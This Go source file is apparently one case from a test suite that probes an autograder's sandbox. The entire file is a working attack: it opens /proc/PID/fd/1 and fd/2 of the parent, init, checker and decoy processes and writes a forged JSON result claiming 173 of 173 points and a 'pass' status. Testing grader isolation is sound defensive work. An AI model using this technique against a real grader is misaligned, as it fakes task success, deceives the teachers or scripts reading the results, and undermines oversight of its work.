package main

// Write full marks into the grader's own output, through /proc/PID/fd/1,
// where the teacher (or a script reading its JSON) will read them.

import (
	"fmt"
	"os"
	"syscall"
)

var _ = attack(func() {
	fake := `{"version":3,"status":"pass","points":173,"max_points":173}` + "\n"
	for _, pid := range []int{syscall.Getppid(), 1, targetCheckerPID, targetDecoyPID} {
		for _, fd := range []int{1, 2} {
			f, err := os.OpenFile(fmt.Sprintf("/proc/%d/fd/%d", pid, fd), os.O_WRONLY, 0)
			if err == nil {
				_, err = f.WriteString(fake)
				f.Close()
			}
			report("stdout %d fd %d: %v", pid, fd, err)
		}
	}
})
